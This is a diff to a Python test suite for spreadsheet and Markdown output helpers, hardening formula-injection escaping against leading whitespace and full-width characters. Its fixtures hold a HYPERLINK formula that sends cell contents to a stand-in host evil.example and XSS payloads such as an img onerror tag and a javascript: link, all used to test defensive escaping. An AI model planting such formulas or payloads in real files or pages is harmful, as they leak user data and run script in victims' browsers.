@@ -54,7 +54,7 @@ NAME = '=HYPERLINK("http://evil.example/?q="&A1,"Support")'   # a judge's theme 
 #: a judge's name that Markdown would render as HTML, emphasis and a link
 MARKUP = "<img src=x onerror=alert(1)> *loud* [x](javascript:alert(1))"
 MARKUP_SHOWN = r"&lt;img src=x onerror=alert(1)&gt; \*loud\* \[x\](javascript:alert(1))"
-TRIGGER = re.compile(r"[=+\-@\t\r]")
+TRIGGER = re.compile(r"\s*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]")
 NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
 
 
@@ -148,7 +148,8 @@ def segment_of(run_folder: Path, text: str) -> pd.Series:
 # --- the helpers themselves --------------------------------------------------------------
 
 @settings(max_examples=300, deadline=None)
-@given(st.text(alphabet=st.sampled_from("'=+-@\t\r 1.eE0aZ\n"), max_size=8) | st.text())
+@given(st.text(alphabet=st.sampled_from("'=+-@\t\r 1.eE0aZ\n\u3000\uff1d\uff0d"), max_size=8)
+       | st.text())
 def test_neutralise_is_undone_exactly(text):
     out = sheets.neutralise(text)
     assert sheets.restore(out) == text
@@ -172,6 +173,23 @@ def test_neutralise_quotes_formulas_and_leaves_numbers():
     # an index and column names are text too (compare's contingency tables)
     table = pd.DataFrame([[1]], index=pd.Index(["=A"], name="@code"), columns=["+theme"])
     assert sheets.to_csv(table).splitlines() == ["'@code,'+theme", "'=A,1"]
+
+
+def test_a_formula_after_white_space_or_in_full_width_is_quoted_too():
+    """A spreadsheet trims the white space before " =HYPERLINK(...)" on import, and an
+    East Asian input method types "＝" for "=": both cells were written as they were."""
+    for text in (' =HYPERLINK("http://x?d="&A1)', "\u00a0+1+1", "\n-2+3", "\u3000@SUM(A1)",
+                 "＝HYPERLINK(\"http://x\")", "＋1", "－2+3", "＠SUM(A1)", " ＝1"):
+        assert sheets.neutralise(text) == "'" + text
+        assert sheets.restore(sheets.neutralise(text)) == text
+    df = pd.DataFrame({"text": [" =1+1", "＝1+1", " plain"]})
+    out = sheets.to_csv(df, index=False)
+    assert out.splitlines() == ["text", "' =1+1", "'＝1+1", " plain"]
+    assert sheets.restore_frame(pd.read_csv(io.StringIO(out)))["text"].tolist() == \
+        [" =1+1", "＝1+1", " plain"]
+    wb = openpyxl.Workbook()
+    row = sheets.append_row(wb.active, [" =1+1", "＝1+1", " plain"])
+    assert [c.quotePrefix for c in wb.active[row]] == [True, True, False]
 
 
 def test_cells_are_strings_and_illegal_characters_never_raise():
